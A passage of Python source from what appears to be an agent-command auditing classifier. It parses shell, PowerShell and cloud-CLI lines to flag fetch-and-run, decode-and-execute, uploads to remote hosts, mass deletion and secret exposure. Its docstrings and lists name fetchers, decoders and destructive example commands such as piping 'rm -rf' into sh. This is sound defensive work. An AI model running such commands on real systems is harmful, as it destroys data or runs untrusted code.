        "railway",
        "atlas",
        "rake",
        "migrate",
    ]
)


_NAME_PARTS: Final = re.compile(r"[-_.]+")  # a file's or a bucket's name, split into its words


def _expires_everything(doc: Any, within_days: frozenset[str]) -> bool:
    """A lifecycle document (decoded) with a rule that expires every object of its bucket:
    enabled, narrowed by no prefix or filter, by date or within `within_days` days."""
    top = _lowered(doc)
    rules = top.get("rules") if isinstance(top, dict) else None
    within = max((int(x) for x in within_days if x.isdigit()), default=0)
    for rule in rules[:100] if isinstance(rules, list) else []:
        if not isinstance(rule, dict) or str(rule.get("status", "")).lower() != "enabled":
            continue
        narrowed = rule.get("prefix") or rule.get("filter") not in (None, {}, {"prefix": ""})
        expiry = rule.get("expiration")
        if narrowed or not isinstance(expiry, dict):
            continue
        days = expiry.get("days")
        if "date" in expiry or (isinstance(days, int) and days <= within):
            return True
    return False


def _lowered(doc: Any, depth: int = 0) -> Any:
    """A JSON document with its object keys lower-cased (`Rules`, `rules`), 8 levels deep."""
    if depth > 8:
        return None
    if isinstance(doc, dict):
        return {str(k).lower(): _lowered(v, depth + 1) for k, v in list(doc.items())[:64]}
    if isinstance(doc, list | tuple):  # a Python literal's tuple reads as a JSON array
        return [_lowered(v, depth + 1) for v in doc[:100]]
    return doc


def _flag_value(argv: list[str], letter: str) -> str | None:
    """The value of `-c` (also inside `-lc`, `-xc`) for shells."""
    for k in range(1, len(argv) - 1):
        a = argv[k]
        if a.startswith("-") and not a.startswith("--") and a[1:].isalpha() and letter in a[1:]:
            return argv[k + 1]
        if not a.startswith("-"):
            return None
    return None


def _script_args(argv: list[str]) -> list[str]:
    """The words after `sh -c SCRIPT`: `$0`, `$1`… of the script."""
    for k in range(1, len(argv) - 1):
        a = argv[k]
        if a.startswith("-") and not a.startswith("--") and a[1:].isalpha() and "c" in a[1:]:
            return argv[k + 2 :]
        if not a.startswith("-"):
            return []
    return []


# A shell function's definition: `name() { body; }` or `function name { body; }` (a body with no
# inner braces; each scan stops at the next brace, so the search is linear).
_FUNCTION_DEF: Final = re.compile(
    r"(?:\bfunction\s+([A-Za-z_:][\w.:-]{0,63})\s*(?:\(\s*\))?|(?<![\w.:-])([A-Za-z_:][\w.:-]{0,63})"
    r"\s*\(\s*\))\s*\{([^{}]{1,4096})\}"
)
# a text that starts by defining a shell function (`f() {`, `function f {`)
_SHELL_FUNCTION_HEAD: Final = re.compile(
    r"\s*(?:function\s+[\w.:-]+\s*(?:\(\s*\))?|[\w.:-]+\s*\(\s*\))\s*\{"
)
# a snippet's loop over every process, and a condition that would pick some of them
_EVERY_PROCESS: Final = Gated(
    r"\bprocess_iter\s*\(|\bpsutil\.pids\s*\(|Get-Process\s*\||listdir\(\s*['\"]/proc['\"]"
)
# (a test that an entry of /proc is a process, `pid.isdigit()`, picks none out)
_CONDITION: Final = Gated(r"\bif\b(?!\s+\w+\.isdigit\(\))|\bwhere\b|\.filter\s*\(", re.I)
_SPAWN: Final = re.compile(r"(?<![|&])[|&](?![|&])")  # a pipe or a background job, not `||`/`&&`
_STARTS: Final = re.compile(r"(?:^|[|&;(])\s*([^\s|&;()]+)")  # the first word of each command
_PLAIN_ARG: Final = re.compile(r"[\w./~:@%+,-]{1,4096}")
_POSITIONAL: Final = re.compile(r'"\$\{?([0-9@*])\}?"|\$\{?([0-9@*])\}?')
_SINGLE_QUOTED: Final = re.compile(r"('[^']*')")


def _positional_args(script: str, args: list[str]) -> str:
    """`sh -c '> "$1"' _ /var/log/syslog`: the script with `$1` (`$0`…`$9`, `$@`, `$*`) put in
    where the value is a plain word (one a shell would not split or expand)."""
    if not args or "$" not in script:
        return script
    plain = [a if _PLAIN_ARG.fullmatch(a) else None for a in args[:10]]

    def value(m: re.Match[str]) -> str:
        name = m.group(1) or m.group(2)
        if name in ("@", "*"):
            rest = plain[1:]
            return " ".join(x for x in rest if x) if all(rest) and rest else m.group(0)
        got = plain[int(name)] if int(name) < len(plain) else None
        return got if got else m.group(0)

    # outside single quotes only (`awk '{print $1}'` keeps its own `$1`)
    parts = _SINGLE_QUOTED.split(script)
    return "".join(x if i % 2 else _POSITIONAL.sub(value, x) for i, x in enumerate(parts))


def _session_upload(prog: str, argv: list[str]) -> tuple[str, list[str]] | None:
    """(host, files) a file-transfer client's own commands upload (`_SESSION_CLIENTS`), or None:
    the host is its first argument that names one (`//203.0.113.7/drop`, `ftp://host`,
    `host.example.net`); the files, what each `put` of its script names."""
    host = ""
    script: list[str] = []
    k = 1
    while k < len(argv):
        a = argv[k]
        if a.lower() in _SESSION_SCRIPT_FLAGS:
            if prog == "tftp":  # `tftp host -c put FILE`: the rest of the line is the command
                script = argv[k + 1 :]
                break
            script.extend(argv[k + 1].split() if k + 1 < len(argv) else [])
            k += 2
            continue
        if not host and a[:1] != "-":
            m = _SESSION_HOST.match(a)
            host = m.group(1) if m is not None else ""
        k += 1
    files: list[str] = []
    verb = ""  # the transfer command whose arguments are being read
    for word in " ".join(script).replace(";", " ; ").split():
        if word == ";":
            verb = ""
        elif verb:
            files.append(word)
            if verb != "mput":
                verb = ""  # `put LOCAL [REMOTE]`: the second names where it lands
        elif word.lower() in _SESSION_PUTS:
            verb = word.lower()
    return (host, files) if host and files else None


def _value_after(argv: list[str], flags: tuple[str, ...]) -> str | None:
    for k in range(1, len(argv) - 1):
        if argv[k].lower() in flags:
            return argv[k + 1]
    return None


def _runner(t: EffectTable, argv: list[str]) -> str | None:
    low = [a.lower() for a in argv]
    prog = program_name(argv[0])
    pos = [prog] + [x for x in low[1:] if not x.startswith("-") and not WIN_SWITCH.match(x)]
    for n in (4, 3, 2, 1):
        key = " ".join(pos[:n])
        if key in t.remote_runners:
            return key
    return None


_UNC_COPIES: Final = frozenset({"copy", "xcopy", "robocopy", "copy-item", "cpi", "cp", "move",
                          "move-item", "mi", "mv", "export-pfxcertificate",
                          "export-certificate"})  # fmt: skip


def _unc_destination(argv: list[str], pos: list[str]) -> str:
    """Where a copy goes when it is a Windows share (`\\\\host\\share`), else ""."""
    dest = _value_after(argv, ("-destination", "-Destination", "-dest", "-FilePath", "-filepath"))
    dest = dest or (pos[-1] if pos else "")
    return dest if dest.startswith("\\\\") and len(dest) > 2 and dest[2] != "?" else ""


def _noexec(argv: list[str]) -> bool:
    """A shell's `-n` among its options: it reads the script and runs nothing."""
    for a in argv[1:8]:
        if a[:1] != "-" or a == "-" or a == "--":
            return False
        if a[1:2] != "-" and a[1:].isalpha() and "n" in a[1:]:
            return True
    return False


_MOVERS: Final = frozenset({"mv", "move", "move-item", "mi"})
_PACKAGE_RUNNERS: Final = frozenset({"npx", "bunx", "pnpx"})
_CODE_URL_HEADS: Final = ("http://", "https://", "github:", "gist:", "git+", "git://")


def _package_from_url(head: list[str], first: str) -> bool:
    """`npx https://gist.github.com/…`: a package runner given a URL or a repository instead
    of a registry's package name runs code fetched from there."""
    return first.lower().startswith(_CODE_URL_HEADS) and any(
        program_name(h) in _PACKAGE_RUNNERS for h in head
    )


def _moved_back(moved: dict[str, str], word: str) -> str:
    """A path under where an earlier `mv` put something, as the place it came from."""
    for dest, src in moved.items():
        if word == dest or word.rstrip("/") == dest:
            return src
        if word.startswith(dest + "/"):
            return src + word[len(dest) :]
    return word


def _clustered(word: str, flags: list[str]) -> bool:
    """`-qc`: short switches run together, ending with a one-letter flag of `flags`."""
    return (
        len(word) > 2
        and word[0] == "-"
        and word[1:].isalpha()
        and any(len(f) == 2 and f[0] == "-" and word[-1] == f[1] for f in flags)
    )


def _without_switches(argv: list[str], n_prog: int) -> list[str]:
    """The words of a runner without the Windows switches among its first `n_prog` words
    (`wmic /node:db01 process call create "…"` is `wmic process call create "…"` there)."""
    out = [argv[0]]
    k = 1
    while k < len(argv) and len(out) < n_prog:
        if WIN_SWITCH.match(argv[k]) is None:
            out.append(argv[k])
        k += 1
    return out + argv[k:] if k > len(out) else argv


def _without_options(words: list[str], options: set[str]) -> list[str]:
    """A command's words without the runner's value options after its first word (`-a app`,
    `--app=app`)."""
    kept = words[:1]
    k = 1
    while k < len(words):
        word = words[k]
        if word in options:
            k += 2  # the option and its value
            continue
        if "=" not in word or word.split("=", 1)[0] not in options:
            kept.append(word)
        k += 1
    return kept


def _find_roots(argv: list[str]) -> list[str]:
    roots: list[str] = []
    for a in argv[1:]:
        if a.startswith("-") or a in ("(", "!", "\\("):
            break
        roots.append(a)
    return roots


_KV_CLIENTS: Final = frozenset({"redis-cli", "valkey-cli"})
_KV_READS: Final = frozenset({"get", "hgetall", "mget", "dump", "json.get", "lrange", "smembers",
                              "zrange", "hvals", "getex"})  # fmt: skip


def _reads_each_key(low: list[str]) -> bool:
    """`xargs [opts] redis-cli [opts] get`: a key-value client reading each item it is given."""
    for k in range(1, min(len(low), 24)):
        if program_name(low[k]) in _KV_CLIENTS:
            verb = next((a for a in low[k + 1 : k + 12] if not a.startswith("-")), "")
            return verb in _KV_READS
    return False


def _host_paths(text: str, mounts: list[tuple[str, str]]) -> str:
    """`text` with each path under a mount's target written as the host path it is."""
    for src, dst in mounts:
        if dst in text:
            at = rf"(?<![\w./~-]){re.escape(dst)}"
            if src == "/":  # `/host/var/lib` is the host's `/var/lib`
                text = re.sub(at + "(?=/)", "", text)
            text = re.sub(
                at + r"""(?=/|$|[\s'"|;&)<>])""",
                src.replace("\\", "\\\\"),  # a replacement's backslashes are its own
                text,
            )
    return text


def _match_all(argv: list[str], k: int) -> bool:
    """`-name '*'`: a filter that matches everything."""
    return k + 1 < len(argv) and argv[k + 1] in ("*", "'*'", '"*"')


def _worst(scopes: list[str]) -> str:
    from agentaudit.classifier._effects import worst_scope

    return worst_scope(scopes)


_OUTPUT_FILE_FLAGS: Final = frozenset({"--file", "--output-file", "--outfile", "--out-file",
                               "--key-file", "--keyfile", "--output-path"})  # fmt: skip
_KEY_FILE: Final = re.compile(r"(?i)[\w./~-]{1,256}\.(?:json|pem|key|p12|pfx|txt|env|yaml|yml)")


def _secret_files(argv: list[str]) -> list[str]:
    """Files a command that reads or makes a secret writes it to: an output option's value
    (`--file /tmp/k.json`) or a file named among its words (`keys create /tmp/sa.json`)."""
    out: list[str] = []
    for k, a in enumerate(argv[1:64], start=1):
        name, eq, value = a.partition("=")
        if name.lower() in _OUTPUT_FILE_FLAGS:
            if eq:
                out.append(value)
            elif k + 1 < len(argv):
                out.append(argv[k + 1])
        elif not a.startswith("-") and _KEY_FILE.fullmatch(a) is not None:
            out.append(a)
    return out


def _outputs(prog: str, argv: list[str]) -> list[str]:
    """Files an archiver or copier writes."""
    pos = [a for a in argv[1:] if not a.startswith("-")]
    if prog == "tar":
        for k, a in enumerate(argv[1:], start=1):
            if (
                (a.startswith("-") and "f" in a and not a.startswith("--"))
                or (k == 1 and "f" in a and not a.startswith("-"))
            ) and k + 1 < len(argv):
                return [argv[k + 1]]
            if a.startswith("--file="):
                return [a.split("=", 1)[1]]
        return []
    if prog in ("zip", "7z", "7za", "rar"):
        pos = [p for p in pos if p not in ("a", "x", "u")]
        return pos[:1]
    if prog in ("cp", "copy", "copy-item") and len(pos) >= 2:
        return pos[-1:]
    if prog in ("gpg", "openssl", "compress-archive"):
        for k in range(1, len(argv) - 1):
            if argv[k] in ("-o", "--output", "-out", "-destinationpath"):
                return [argv[k + 1]]
    return []


def _reads_stdin(w: Words) -> bool:
    """An executor with no script or code of its own runs what its stdin brings."""
    if w.program in ("iex", "invoke-expression"):
        return True
    pos = [w.low[i] for i in w.positional]
    if w.program in ("source", "."):
        return not pos or pos[0] in ("/dev/stdin", "-")
    if any(a in ("-c", "-e", "--eval", "-command", "-r") for a in w.low):
        return False
    return not pos or pos[0] in ("-", "/dev/stdin", "-s")


def _decodes(w: Words) -> bool:
    p = w.program
    if p in ("base64", "base32", "base64url", "basenc"):
        return any(a in ("-d", "--decode", "-D", "-di") for a in w.low)
    if p == "xxd":
        return "-r" in w.low or "-rp" in w.low or "-r -p" in " ".join(w.low)
    if p == "openssl":
        return "-d" in w.low or "base64" in w.low and "-d" in w.low
    if p == "certutil":
        return "-decode" in w.low or "-decodehex" in w.low
    if p in ("uudecode", "gunzip", "zcat", "rev", "unxz"):
        return True
    if p == "tr":  # a rotation of the alphabet (`tr 'a-z' 'n-za-m'`: rot13)
        sets = [a for a in w.argv[1:] if not a.startswith("-")]
        return (
            len(sets) == 2 and sets[0] != sets[1] and all(_LETTER_RANGES.fullmatch(x) for x in sets)
        )
    if p in ("gzip", "bzip2", "xz"):
        return "-d" in w.low or "--decompress" in w.low
    return False


_LETTER_RANGES: Final = re.compile(r"(?:[A-Za-z]-[A-Za-z]){1,4}")


def _decoder_text(text: str) -> bool:
    """A command line whose output is decoded content (`… | base64 -d`)."""
    for c in parse_shell(text[:4096]).cmds:
        if _decodes(split_words(c.argv)) if c.argv else False:
            return True
    return False


def _fetches(text: str) -> bool:
    head = text.strip().split(None, 1)
    return bool(head) and program_name(head[0]) in (
        "curl",
        "wget",
        "fetch",
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "wget2",
        "http",
        "aria2c",
    )


def _ci_variable(m: re.Match[str]) -> str:
    """`${{ secrets.NPM_TOKEN }}` as the shell variable `${SECRETS_NPM_TOKEN}` (see _CI_EXPR)."""
    return "${" + m.group(1).upper().replace(".", "_").replace("-", "_") + "}"


def _line_text(line: list[_Ran]) -> str:
    return " | ".join(r.cmd.text or " ".join(r.words.argv) for r in line)


def _sed_replacement(expr: str) -> str:
    """`s/a/b/` -> `b` (what an in-place edit writes), or the expression."""
    if len(expr) > 2 and expr[0] == "s":
        sep = expr[1]
        parts = expr[2:].split(sep)
        if len(parts) >= 2:
            return parts[1]
    return expr


def render(argv: list[str]) -> str:
    """The command as parsed, words quoted where they hold spaces (for explanations)."""
    out = []
    for a in argv:
        if not a or _NEEDS_QUOTES.search(a):
            out.append("'" + a.replace("'", "'\\''") + "'")
        else:
            out.append(a)
    return " ".join(out)


_NEEDS_QUOTES: Final = re.compile(r"[\s|;&<>]")


_FED_LINES: Final = re.compile(r"(?:\\r)?\\n|\\r|[\r\n;]")  # real line breaks or `\r\n` written out


_LISTING_VERBS: Final = frozenset(
    {"list", "ls", "find", "scan", "ps", "keys", "describe", "search"}
)


def _whole_listing(t: EffectTable, sub: str) -> bool:
    """A substitution that prints every item of a kind (`ipa user-find`, `kubectl get ns -o
    name`, `aws ec2 describe-instances --query …`): a listing subcommand, not narrowed by a
    filter option or `grep`."""
    head = sub[:1024]
    argv = head.split("|", 1)[0].split()[:24]
    if len(argv) < 2 or "grep" in head or _narrowed_listing(argv, t.listing_filters):
        return False
    if any(("*" in a or "?" in a) and "[" not in a and a.strip("'\"") != "*" for a in argv[1:]):
        return False  # a pattern picks some (`git ls-files '*.log'`; not a query's `[*]`)
    prog = program_name(argv[0])
    subs = [a.lower() for a in argv[1:12] if not a.startswith("-")][:6]
    if (prog in ("kubectl", "oc", "k") and subs[:1] == ["get"]) or any(
        a.startswith("--list") for a in argv[1:4]
    ):
        return True  # (`tarsnap --list-archives`: a listing by its option)
    return any(not _LISTING_VERBS.isdisjoint(re.split(r"[-_:]", x)) for x in subs)


def _lists_everything(w: Words) -> bool:
    """A cloud CLI listing a whole store, unfiltered (`aws dynamodb scan --table-name t`,
    `gcloud … list`): a subcommand that reads everything, with no filter option."""
    words = [w.low[i] for i in w.positional[:3]]
    if not any(x in ("scan", "list", "ls") or x.startswith("list-") for x in words):
        return False
    return not any(
        a.startswith(("--filter", "--filter-expression", "--key-condition", "--prefix"))
        for a in w.low
    )


def _fed_text(c: Cmd, upstream: list[_Ran]) -> str | None:
    """What a command reads on its standard input: a here-document, a here-string, or what
    the stage right before it prints."""
    here = next((r.target.text for r in c.redirects if r.op == "<<<"), None)
    return c.heredoc or here or _piped_text(c, upstream, adjacent=True)


def _piped_text(c: Cmd, upstream: list[_Ran], adjacent: bool = False) -> str | None:
    """What an `echo`/`printf` or a here-document earlier in the same pipeline writes into this
    command. `adjacent`: only the stage right before it counts — the text this command reads as
    its input (`cat <<'EOF' | sh`), which a stage in between (`| base64 -d |`) would change."""
    for u in _same_pipeline(c, upstream):
        if u.cmd.pipeline != c.pipeline or u.cmd.stage >= c.stage:
            continue
        if adjacent and u.cmd.stage != c.stage - 1:
            continue
        if u.cmd.heredoc is not None:
            return u.cmd.heredoc
        printed = _printed(u.words.program, u.words.argv)
        if printed is not None:
            return printed
    return None


_PHP_NAMESPACE: Final = re.compile(r"\\(?=[A-Za-z_])")  # the backslashes of `App\Models\User`


# `powershell.exe -NoProfile -Command A | B` started by a task, a Run key or WMI: no shell splits
# it, PowerShell's `-Command` takes the rest of the line as its code
_PWSH_PROCESS_LINE: Final = re.compile(
    r"(\s*[\"']?[^\s\"']{0,255}?\b(?:powershell|pwsh)(?:\.exe)?[\"']?(?:\s+\S+){0,8}?\s+-(?:c|command))\s+(\S.*)",
    re.I | re.S,
)


def process_line(line: str) -> str:
    """A command line a process is started with, as a shell would have to be given it: after
    PowerShell's `-Command`, the rest is one word (unless it is quoted already)."""
    m = _PWSH_PROCESS_LINE.match(line[:65536])
    if m is None or m.group(2)[:1] in "\"'":
        return line
    return f"{m.group(1)} {shell_word(m.group(2).strip())}"


_COMMAND_FLAGS: Final = frozenset({"-command", "-c", "/c", "/k", "-encodedcommand", "-enc", "-e"})


def _rejoined(words: list[str]) -> str:
    """Words read again as one command line: one word is that line (`cmd /c "del /q x"`); of
    several, one holding blanks stays one word (`cmd /c powershell -c "A | B"`)."""
    if len(words) == 1:
        return words[0]
    return " ".join(shell_word(w) if any(ch.isspace() for ch in w) else w for w in words)


def _printed_by(sub: str) -> str | None:
    """What a command alone prints when its words say it: `echo …`, `printf …`, `cat <<EOF`."""
    script = parse_shell(sub[:65536], pwsh=False)
    if len(script.cmds) != 1 or not script.cmds[0].words:
        return None
    c = script.cmds[0]
    argv = c.argv
    prog = program_name(argv[0])
    if prog == "cat" and len(argv) == 1:
        return c.heredoc
    return _printed(prog, argv)


def _printed(prog: str, argv: list[str]) -> str | None:
    """What `echo` (its words, options dropped) or `printf` prints; None for other programs."""
    if prog == "printf":
        return printf_output(argv)
    if prog == "echo":
        return " ".join(a for a in argv[1:] if not (a.startswith("-") and len(a) == 2))
    return None


def _file_name(path: str) -> str:
    """A path's last part (`/tmp/x.sh`, `C:\\t\\x.ps1` -> `x.sh`, `x.ps1`)."""
    return path.replace("\\", "/").rsplit("/", 1)[-1]


def printf_output(argv: list[str]) -> str:
    """What `printf FORMAT ARGS…` prints into a pipe (`printf '%s\\n' 'rm -rf /x' | sh`)."""
    args = argv[1:]
    if len(args) >= 2 and args[0] == "-v":
        return ""  # `-v VAR`: stored in a variable, not printed
    if args[:1] == ["--"]:
        args = args[1:]
    return _printf(args[0], args[1:]) if args else ""


def _short(text: str) -> str:
    s = " ".join(text.split())
    return s if len(s) <= 60 else s[:59] + "…"


def dangerous(effects: list[Effect]) -> list[Effect]:
    return [e for e in effects if e.kind in DANGEROUS]


_CHDIR: Final = frozenset({"cd", "pushd", "chdir", "set-location", "sl"})


def _chdir(cwd: str, w: Words) -> str:
    """Where `cd <dir>` moves to, from `cwd` ("" when unknown: `cd -`, `cd` alone, `popd`)."""
    dirs = [w.argv[1 + i] for i in w.positional]
    if len(dirs) != 1 or dirs[0] == "-":
        return ""
    d = dirs[0].strip("'\"")
    if d[:1] in ("/", "~", "$") or d[1:3] in (":\\", ":/"):
        return d
    return in_dir(cwd, d) if cwd else ""


def _option_at(argv: list[str], k: int, names: list[str], value_flags: Collection[str]) -> int:
    """Where one of `names` stands among the options from `argv[k]` on (-1 if none does
    before the first word that is not an option)."""
    while k < len(argv) and argv[k].startswith("-") and argv[k] != "--":
        if argv[k].lower() in names:
            return k
        k += 2 if takes_value(argv[k], value_flags) else 1
    return -1


def takes_value(flag: str, value_flags: Collection[str]) -> bool:
    """Whether an option takes the next word as its value: one of `value_flags`, or a cluster
    of short options whose last letter is one (`-dmS NAME`, `-iu root`) and no earlier letter
    is (`-oStrictHostKeyChecking=no` holds its value)."""
    if flag in value_flags:
        return True
    if len(flag) < 3 or flag[1] == "-" or not flag[1:].isalpha():
        return False
    for k in range(1, len(flag)):
        if "-" + flag[k] in value_flags:
            return k == len(flag) - 1
    return False


def strip_wrappers(t: EffectTable, argv: list[str]) -> tuple[int, str]:
    """Index of the command after `sudo`, `env`, `nohup`, `timeout 5`, shell keywords…, and the
    wrapper that escalates ("" if none)."""
    i = 0
    escalated = ""
    while i < len(argv):
        if argv[i] in _KEYWORDS or _ASSIGN.match(argv[i]):
            i += 1
            continue
        if argv[i].startswith("$") and i + 1 < len(argv) and argv[i + 1] == "=":
            i += 2  # PowerShell: `$a = New-ScheduledTaskAction …`
            continue
        prog = program_name(argv[i])
        wrap = t.wrappers.get(prog)
        if wrap is None or (prog == "exec" and i + 1 >= len(argv)):
            break
        if wrap.get("escalate"):
            escalated = prog
        value_flags = set(wrap.get("value_flags") or ())
        j = i + 1
        while j < len(argv) and argv[j].startswith("-") and argv[j] != "-":
            if argv[j] == "--":
                j += 1
                break
            j += 2 if takes_value(argv[j], value_flags) else 1
        while j < len(argv) and _ASSIGN.match(argv[j]):
            j += 1
        j += int(wrap.get("positional") or 0)
        if j >= len(argv):
            break  # the wrapper alone (`env`, `sudo -i`): judged as itself
        i = j
    return i, escalated


_PARALLEL_VALUE_FLAGS: Final = frozenset(
    {"-j", "--jobs", "-P", "-S", "--sshlogin", "-a", "--arg-file", "--joblog", "--results",
     "-d", "--delimiter", "-n", "--max-args", "-N", "-I", "--tmpdir", "--timeout", "--retries",
     "--halt", "--delay", "-L", "--max-lines", "--colsep", "-C", "--sshloginfile", "--slf",
     "--workdir", "--wd", "-E", "--env", "--tagstring", "--memfree", "--load", "--basefile",
     "--bf", "--return", "--transferfile", "--tf", "--sshdelay"}
)  # fmt: skip
_AZ_UPLOADS: Final = (["storage", "blob", "upload"], ["storage", "blob", "upload-batch"],
               ["storage", "file", "upload"])  # fmt: skip
_USER_WRITE_ACL: Final = re.compile(r"(?:u|user|g|group):[^:,\s]+:[rx-]*w", re.I)
_TYPED_ENTER: Final = re.compile(r"(?:\\[nr]|\^M)+\s*$")
_SUBST_EVAL: Final = frozenset(
    {"dirname", "basename", "realpath", "readlink", "echo", "printf", "pwd", "ls", "find"}
)
_LS_PATH_FLAGS: Final = frozenset({"-d", "-1d", "-d1", "--directory"})


def _substituted(words: list[Word], filters: frozenset[str]) -> list[str]:
    """Words with `$(dirname /a/b)`-like substitutions replaced by what they print (the few
    commands whose output follows from their arguments); a listing narrowed by one of
    `filters` (`$(docker ps -aq --filter status=exited)`) is `$(…filtered)`, what matched;
    others stay `$(…)`, every item."""
    out: list[str] = []
    for w in words:
        text = w.text
        if w.subs and "$(…)" in text:
            for sub in w.subs:
                value = _eval_sub(sub)
                if value is None and _narrowed_listing(sub.split(), filters):
                    value = "$(…filtered)"
                if value is None:
                    break
                text = text.replace("$(…)", value, 1)
        out.append(text)
    return out


def _scratch_pattern(t: EffectTable, argv: list[str]) -> bool:
    """A listing's `--pattern`/`--match` that names scratch (`redis-cli --scan --pattern
    'session:tmp:*'`); `'user:*'` names every user's keys, data."""
    for k in range(1, min(len(argv), 64) - 1):
        if argv[k].lower() in ("--pattern", "--match"):
            words = NOT_ALNUM_RUN.split(argv[k + 1].lower())
            return not t.harmless_objects.isdisjoint(words)
    return False


def _narrowed_listing(argv: list[str], filters: frozenset[str]) -> bool:
    """A listing given a filter option (`--filter status=exited`, `-l app=web`, `--filter=…`)
    that is not `*`, or piped through `grep`: it prints what matched."""
    for k in range(1, min(len(argv), 64)):
        low = argv[k].lower()
        name, eq, value = low.partition("=")
        if low == "grep":
            return True
        if name in filters:
            if not eq:
                value = argv[k + 1].lower() if k + 1 < len(argv) else ""
            if value.strip("'\"") not in ("", "*"):
                return True
    return False


_GLOB_CHARS: Final = re.compile(r"[?*\[]")
_GLOB_NAME: Final = re.compile(r"[A-Za-z0-9._+?*-]{1,16}")


def _glob_program(t: EffectTable, name: str) -> str:
    """The known program a glob names (`r?` -> `rm`): one whose entries destroy first, else the
    first by name; "" when none or the glob is too loose to say (`*`, `??`)."""
    if _GLOB_NAME.fullmatch(name) is None or not any(ch.isalnum() for ch in name):
        return ""  # not a program's name (`df[df.email`): no pass over the table
    try:
        pattern = re.compile(fnmatch.translate(name))
    except re.error:
        return ""
    found = sorted(p for p in t.known_programs if pattern.match(p))
    destroys = [p for p in found if any(e.effect == "destroy" for e in t.entries.get(p, ()))]
    return (destroys or found or [""])[0]


def _eval_sub(sub: str) -> str | None:
    parts = sub.split()
    if not parts or program_name(parts[0]) not in _SUBST_EVAL or any(ch in sub for ch in "|;&`$"):
        return None
    prog = program_name(parts[0])
    args = [a.strip("\"'") for a in parts[1:] if not a.startswith("-")]
    if prog == "find":
        # `find /srv/data -type f` prints every file under its roots (unless it filters them)
        roots = _find_roots(parts)
        rest = parts[1 + len(roots) :]
        if roots and not _FIND_FILTERS.intersection(rest) and "-delete" not in rest:
            return " ".join(r.rstrip("/") + "/*" for r in roots)
        return None
    if prog == "ls":
        # `ls -d /x/*` prints the paths its globs name: the same paths as the globs
        flags = {a for a in parts[1:] if a.startswith("-")}
        return " ".join(args) if args and flags and flags <= _LS_PATH_FLAGS else None
    if prog == "pwd":
        return "."
    if not args:
        return None
    if prog == "dirname":
        return args[0].rstrip("/").rsplit("/", 1)[0] or "/"
    if prog == "basename":
        return args[0].rstrip("/").rsplit("/", 1)[-1]
    if prog == "printf":
        # the format with its arguments put in (`printf 'rm -rf /srv/%s' data`)
        script = parse_shell(sub, pwsh=False)
        words = [x.text for x in script.cmds[0].words[1:]] if script.cmds else []
        words = [x for x in words if x != "--"]
        return _printf(words[0], words[1:]) if words else None
    return " ".join(args)


_PRINTF_SPEC: Final = re.compile(r"%%|%[-+ 0#]*\d*(?:\.\d+)?[sdbiuxXc]|\\n|\\t")


def _printf(fmt: str, args: list[str]) -> str:
    """What `printf FMT ARGS…` prints, for the conversions that copy an argument."""
    rest = iter(args[:64])

    def put(m: re.Match[str]) -> str:
        spec = m.group(0)
        if spec == "%%":
            return "%"
        if spec in ("\\n", "\\t"):
            return "\n" if spec == "\\n" else "\t"
        return next(rest, "")

    return _PRINTF_SPEC.sub(put, _PRINTF_ESCAPE.sub(_escaped_char, fmt[:4096]))


# printf's byte escapes in its format: `\x72` (hex), `\162` and `\0162` (octal)
_PRINTF_ESCAPE: Final = re.compile(r"\\(?:x([0-9A-Fa-f]{1,2})|0?([0-7]{1,3}))")


def _escaped_char(m: re.Match[str]) -> str:
    code_point = int(m.group(1), 16) if m.group(1) is not None else int(m.group(2), 8)
    return chr(code_point) if 0 < code_point < 128 else ""


_LISTERS: Final = frozenset(
    {
        "get-childitem",
        "gci",
        "ls",
        "dir",
        "find",
        "get-aduser",
        "get-adcomputer",
        "get-item",
        "gi",
        "get-mailbox",
        "get-vm",
        "get-azresourcegroup",
        "get-azvm",
    }
)
_PIPE_TAKERS: Final = frozenset(
    {
        "remove-item",
        "ri",
        "rm",
        "del",
        "erase",
        "rd",
        "rmdir",
        "remove-aduser",
        "remove-adcomputer",
        "remove-mailbox",
        "remove-vm",
        "remove-azresourcegroup",
        "remove-azvm",
        "foreach-object",
        "%",
        "clear-content",
        "clc",
    }
)


# a ForEach-Object block that empties each file it is given: Clear-Content, Set-Content or
# .NET's WriteAllText/WriteAllBytes with nothing (`-Value ''`, `$null`)
_EMPTIES_BLOCK: Final = re.compile(
    r"\b(?:clear-content|clc)\b"
    r"|\bset-content\b[^|};]{0,200}?-value\s{0,4}(?:''|\"\"|\$null)"
    r"|::writeall(?:text|bytes)\([^;}]{0,200}?,\s{0,4}(?:''|\"\"|\$null|@\(\))\s{0,4}\)",
    re.I,
)


_PASSWORD_FLAGS: Final = frozenset({"--password", "--new-password", "--passwd", "--set-password"})
_ACCOUNT_FLAGS: Final = frozenset({"--id", "--user-name", "--username", "--user", "--upn",
                                   "--user-principal-name", "--login", "--account"})  # fmt: skip
_SET_OPTIONS: Final = frozenset({"-s", "--set", "--set-string"})  # their value is `key=value`
_BLOCK_CMDLET: Final = re.compile(r"\b[A-Za-z]{2,12}-[A-Za-z][A-Za-z0-9]{1,40}\b")


def _fed_roots(
    t: EffectTable, prog: str, argv: list[str], w: Words, c: Cmd, upstream: list[_Ran]
) -> tuple[list[str], bool] | None:
    """`Get-ChildItem X -Recurse | Remove-Item`, `ls X | ForEach-Object { $_.Delete() }`,
    `Get-ADUser -Filter * | Disable-ADAccount`: a command with no target of its own acts on
    what the listing upstream of it found (any `Get-` cmdlet lists; any cmdlet whose verb
    destroys or locks out takes)."""
    if prog not in _PIPE_TAKERS:
        verb = prog.split("-", 1)[0]
        if not (
            "-" in prog
            and (verb in t.destroy_verbs or verb in t.locked_out["verbs"])
            and is_cmdlet(t, prog)
        ):
            return None
    taker = "remove-item"
    if prog in ("foreach-object", "%"):
        if not re.search(r"\.delete\(|remove-item|\brm\b|\bdel\b", c.text, re.I):
            # `ForEach-Object { Remove-MgUser -UserId $_.Id }`: a cmdlet that destroys each
            taker = next(
                (
                    name
                    for m in _BLOCK_CMDLET.finditer(c.text[:2048])
                    if (name := m.group(0).lower()).split("-", 1)[0] in t.destroy_verbs
                    and is_cmdlet(t, name)
                ),
                "",
            )
            if not taker and _EMPTIES_BLOCK.search(c.text) is None:
                return None
            taker = taker or "clear-content"  # `ForEach-Object { Set-Content $_ -Value '' }`
    elif any(not a.startswith("-") for a in w.argv[1:]):
        return None
    for u in reversed(_same_pipeline(c, upstream)):
        if u.cmd.stage >= c.stage:
            continue
        lister = u.words.program
        if lister not in _LISTERS and not (lister.startswith("get-") and is_cmdlet(t, lister)):
            return None
        roots = [a for a in u.words.argv[1:] if not a.startswith("-")]
        low = u.words.low
